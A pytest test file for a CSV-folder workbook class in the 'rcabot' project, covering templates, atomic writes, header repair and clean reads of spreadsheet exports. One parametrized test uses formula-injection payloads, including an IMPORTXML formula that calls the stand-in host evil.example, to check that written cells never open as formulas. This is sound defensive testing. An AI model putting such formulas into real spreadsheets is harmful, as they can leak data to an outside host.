"""The CSV-folder workbook: real files, atomic writes, formulas kept as text."""
import os

import pytest

from rcabot.bootstrap import TEMPLATES
from rcabot.workbook import TabNotFound, WorkbookError
from rcabot.workbook.local import LocalWorkbook


@pytest.fixture
def workbook(tmp_path):
    book = LocalWorkbook.from_templates(tmp_path / "wb", TEMPLATES)
    book.ensure_tabs({"Tracker": ["Timestamp", "Ticket"], "TicketState": ["Ticket", "Title"]})
    return book


def test_a_new_workbook_is_made_from_the_templates(tmp_path):
    LocalWorkbook.from_templates(tmp_path / "wb", TEMPLATES)
    assert sorted(p.name for p in (tmp_path / "wb").iterdir()) == ["Configuration.csv", "Managers.csv"]


def test_templates_never_overwrite_a_tab_ops_already_have(tmp_path):
    (tmp_path / "wb").mkdir()
    (tmp_path / "wb" / "Managers.csv").write_text("Name,GChat ID,Shift\nOnly Me,users/1,all\n")
    book = LocalWorkbook.from_templates(tmp_path / "wb", TEMPLATES)
    assert book.read_tabs(["Managers"])["Managers"] == [["Name", "GChat ID", "Shift"], ["Only Me", "users/1", "all"]]
    assert (tmp_path / "wb" / "Configuration.csv").exists()


def test_a_missing_tab_is_named(workbook):
    with pytest.raises(TabNotFound, match="tab 'Nope' is missing"):
        workbook.read_tabs(["Nope"])


def test_a_spreadsheet_export_with_a_byte_order_mark_and_blank_rows_reads_cleanly(workbook, tmp_path):
    (tmp_path / "wb" / "Managers.csv").write_bytes("\ufeffName,GChat ID\r\nAda,users/1\r\n,\r\n\r\n".encode())
    assert workbook.read_tabs(["Managers"])["Managers"] == [["Name", "GChat ID"], ["Ada", "users/1"]]


@pytest.mark.parametrize("value", ['=IMPORTXML("http://evil.example","//a")', "+1", "-5", "@me", "\tx",
                                   "'quoted", "plain", "comma, \"quote\"\nnewline", "Ünïcödé ✓"])
def test_what_the_bot_writes_reads_back_exactly_and_never_opens_as_a_formula(workbook, tmp_path, value):
    workbook.append_rows("Tracker", [[value, "RCA-1"]])
    assert workbook.read_tabs(["Tracker"])["Tracker"][-1] == [value, "RCA-1"]
    raw = (tmp_path / "wb" / "Tracker.csv").read_text().splitlines()[1]
    assert not raw.lstrip('"').startswith(("=", "+", "-", "@", "\t"))


def test_replacing_a_tab_that_shrank_leaves_no_stale_rows(workbook):
    workbook.replace_tabs({"TicketState": [["Ticket", "Title"], ["RCA-1", "a"], ["RCA-2", "b"]]})
    workbook.replace_tabs({"TicketState": [["Ticket", "Title"]]})
    assert workbook.read_tabs(["TicketState"])["TicketState"] == [["Ticket", "Title"]]


def test_appends_keep_their_order(workbook):
    workbook.append_rows("Tracker", [["1", "a"], ["2", "b"]])
    workbook.append_rows("Tracker", [["3", "c"]])
    assert [r[0] for r in workbook.read_tabs(["Tracker"])["Tracker"][1:]] == ["1", "2", "3"]


def test_ensure_tabs_repairs_a_wrong_header_and_keeps_the_rows(workbook):
    workbook.replace_tabs({"TicketState": [["Old", "Header"], ["RCA-1", "a"]]})
    assert workbook.ensure_tabs({"TicketState": ["Ticket", "Title"]}) == ["TicketState"]
    assert workbook.read_tabs(["TicketState"])["TicketState"] == [["Ticket", "Title"], ["RCA-1", "a"]]
    assert workbook.ensure_tabs({"TicketState": ["Ticket", "Title"]}) == []


def test_a_write_that_fails_midway_leaves_the_old_file_whole(workbook, tmp_path, monkeypatch):
    workbook.replace_tabs({"TicketState": [["Ticket", "Title"], ["RCA-1", "kept"]]})
    before = (tmp_path / "wb" / "TicketState.csv").read_bytes()

    def crash(*_):
        raise OSError("disk full")
    monkeypatch.setattr(os, "replace", crash)  # the rename never happens, as in a crash before it
    with pytest.raises(WorkbookError, match="cannot write .*TicketState.csv: disk full"):
        workbook.replace_tabs({"TicketState": [["Ticket", "Title"], ["RCA-2", "new"]]})
    with pytest.raises(WorkbookError):
        workbook.append_rows("TicketState", [["RCA-3", "new"]])
    assert (tmp_path / "wb" / "TicketState.csv").read_bytes() == before
    assert [p.name for p in (tmp_path / "wb").iterdir() if p.name.endswith(".tmp")] == []


def test_appending_to_a_missing_tab_is_refused(workbook):
    with pytest.raises(TabNotFound):
        workbook.append_rows("Nope", [["x"]])
